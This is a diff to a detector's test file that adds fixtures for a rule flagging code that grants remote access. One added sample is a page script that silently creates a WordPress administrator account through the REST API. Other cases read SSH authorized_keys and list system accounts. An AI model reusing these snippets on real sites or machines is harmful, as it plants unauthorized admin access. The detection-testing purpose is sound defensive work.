@@ -35,8 +35,22 @@ examine(addsRemoteAccess, {
       weight: 'proof',
       says: ['remote access'],
     },
+    {
+      when: 'a script of a page adds whoever it likes to the site',
+      files: {
+        'index.js': `jQuery(function () { jQuery.ajax({ url: wpApiSettings.root + 'wp/v2/users', method: 'POST', data: { username: 'inert', roles: ['administrator'] } }); });`,
+      },
+      weight: 'strong',
+      says: ['to the site'],
+    },
   ],
   silent: [
+    {
+      when: 'a client of sites adds accounts when it is called, and a script of a page lists them',
+      files: {
+        'index.js': `exports.add = (root, user) => fetch(root + '/wp/v2/users', { method: 'POST', body: JSON.stringify(user) }); fetch('/wp-json/wp/v2/users?who=authors');`,
+      },
+    },
     { when: 'the keys are only read', files: { 'index.js': `${CP} fs.readFileSync(path.join(os.homedir(), '.ssh/authorized_keys'))` } },
     { when: 'accounts are only listed', files: { 'index.js': `${CP} cp.execSync('net user'); cp.execSync('id inert')` } },
     { when: 'a text tells how to do it', files: { 'index.js': `module.exports = 'append your key to ~/.ssh/authorized_keys';` } },
